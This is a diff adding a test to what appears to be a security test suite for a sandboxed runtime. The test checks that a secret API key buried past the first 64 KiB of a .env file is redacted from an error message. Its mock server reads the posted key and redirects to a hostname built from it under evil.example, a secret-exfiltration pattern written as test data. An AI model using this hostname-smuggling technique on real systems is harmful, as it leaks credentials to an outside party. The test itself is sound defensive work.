@@ -651,6 +651,33 @@ requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
     expectNotSeen(world, result);
   });
 
+  it("a key from past the first 64 KiB of a classified body is redacted from an error that quotes a server's redirect", async () => {
+    const world = secretWorld();
+    // A long .env (over 64 KiB) whose key comes last.
+    const filler = Array.from({ length: 9000 }, (_, i) => `SETTING_${i}=value\n`).join("");
+    writeTree(world.root, { ".env": `${filler}API_KEY=${world.canary}\n` });
+    // Sends the posted key on as a host name: a refused redirect that the error names.
+    const a = await server((request, response) => {
+      const key = /API_KEY=(\S+)/.exec(request.body)?.[1] ?? "none";
+      response.writeHead(302, { location: `http://${key}.evil.example/` });
+      response.end();
+    });
+    const result = await tacit(
+      world.root,
+      `${ATTEMPT_PRELUDE}
+const env = requestFileSystem(".", (fs) => fs.readClassified(".env"));
+requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
+  attempt("reflected", () => String(net.httpPostClassified(${lit(`${a.origin}/upload`)}, env)));
+});
+`,
+      permit(`127.0.0.1:${a.port}`),
+    );
+    expect(result.code, result.stderr).toBe(0);
+    expect(a.received[0]?.body).toContain(`API_KEY=${world.canary}`);
+    expect(attemptOf(attempts(result.stdout), "reflected").value).toMatch(/^\[redacted\]\.evil\.example is not among the hosts/);
+    expectNotSeen(world, result);
+  });
+
   it("a failed request whose classified body has an astral character (or a lone surrogate) is an ordinary error wherever its message is cut", async () => {
     const world = secretWorld();
     writeTree(world.root, { ".env": `${"s".repeat(80)}-${world.canary}\n` });
